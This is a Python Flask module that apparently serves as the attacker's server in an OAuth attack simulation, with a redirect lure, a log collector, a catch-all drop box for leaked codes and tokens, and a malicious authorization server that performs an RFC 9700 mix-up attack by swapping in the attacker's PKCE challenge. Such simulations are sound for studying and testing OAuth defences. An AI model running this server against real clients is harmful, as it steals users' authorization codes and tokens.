"""The attacker's public site: what the attack scenarios need the attacker to run.

GET  /go?to=URL     a page the victim is lured to; it sends the victim's browser on to URL
                    (a crafted authorization link, or a callback carrying the attacker's code)
POST /log           a log collector: a misconfigured log shipper sends the client's outgoing
                    requests here (code-replay's leak)
GET  /authorize     a malicious authorization server (mix-up): records the client's request
                    and forwards the browser to the honest server's /authorize
POST /token         the malicious server's token endpoint: records what the client sends
GET  /anything      a drop box: every other GET records the codes, tokens and state it
                    carries (where a leaked authorization response or an XSS payload lands)
"""

from __future__ import annotations

from urllib.parse import urlsplit

import requests
from flask import Blueprint, Response, current_app, jsonify, redirect, request

from sim.attacker.loot import plan
from sim.parties import ATTACKER, FLOW_HEADER

#: The client's registration at the attacker's authorization server (mix-up).
MIXUP_CLIENT_ID = "demo-client"
MIXUP_CLIENT_SECRET = "secret-issued-by-attacker-as"

PAGE = (
    "<!doctype html><title>Totally harmless page</title>"
    "<p>Nothing to see here. (This page belongs to the attacker.)</p>"
)

#: The authorization request parameters the malicious server passes on unchanged.
FORWARDED = (
    "response_type",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "code_challenge",
    "code_challenge_method",
)

bp = Blueprint("attacker", __name__)


def record(kind: str) -> None:
    """Note what this request brought to the attacker's server."""
    current_app.extensions["loot"].add(
        request.headers.get(FLOW_HEADER) or "live",
        {
            "kind": kind,
            "method": request.method,
            "path": request.path,
            "params": {k: v for k, v in request.values.items(multi=False)},
            "authorization": request.headers.get("Authorization"),
            "body": request.get_data(as_text=True) if request.method == "POST" else "",
        },
    )


def harmless_page() -> Response:
    return Response(PAGE, mimetype="text/html")


def _is_web_url(target: str) -> bool:
    """An http(s) URL a Location header can carry (no CR/LF or other control characters,
    which Werkzeug refuses with a 500): anything else just gets the page."""
    try:
        scheme = urlsplit(target).scheme
    except ValueError:  # e.g. "http://["
        return False
    return scheme in ("http", "https") and target.isprintable()


@bp.get("/healthz")
def healthz():
    return {"status": "ok", "party": ATTACKER}


@bp.get("/go")
def go():
    """The lure: any page of the attacker's can send the browser anywhere."""
    target = request.args.get("to", "")
    if not _is_web_url(target):
        return harmless_page()
    record("lure")
    return redirect(target)


@bp.post("/log")
def log():
    record("log")
    return "", 204


@bp.get("/authorize")
def authorize():
    """Mix-up (RFC 9700 §4.4.1): the client believes it talks to this server. Forward the
    user to the honest one with the client's parameters there, so the honest server issues
    a code for the client and sends it to the client's (shared) callback, but with the
    code_challenge of the attacker's own login at the client swapped in, so that the
    attacker's session at the client can redeem the code later."""
    record("authorization-request")
    params = {k: request.args[k] for k in FORWARDED if k in request.args}
    swap = plan(current_app.extensions["loot"], request.headers.get(FLOW_HEADER) or "live")
    if swap.get("code_challenge"):
        params.update(code_challenge=swap["code_challenge"], code_challenge_method="S256")
    honest = current_app.config["HONEST_ISSUER"] + "/authorize"
    return redirect(requests.Request("GET", honest, params=params).prepare().url or honest)


@bp.post("/token")
def token():
    record("token-request")
    response = jsonify({"error": "invalid_grant", "error_description": "Please try again later."})
    response.status_code = 400
    response.headers["Cache-Control"] = "no-store"
    return response


@bp.get("/")
@bp.get("/<path:anything>")
def drop_box(anything: str = ""):
    record("leak")
    return harmless_page()
